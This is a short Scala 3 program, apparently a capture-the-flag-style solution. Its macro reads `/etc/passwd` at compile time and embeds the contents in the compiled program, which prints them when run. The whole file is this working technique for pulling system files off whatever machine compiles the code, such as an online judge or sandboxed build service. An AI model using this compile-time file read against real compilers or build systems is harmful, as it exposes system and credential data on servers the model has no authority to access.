import scala.quoted.*

def read(using Quotes): Expr[String] = Expr(scala.io.Source.fromFile("/etc/passwd").mkString)

inline def host: String = ${ read }

@main def solve() = println(host)
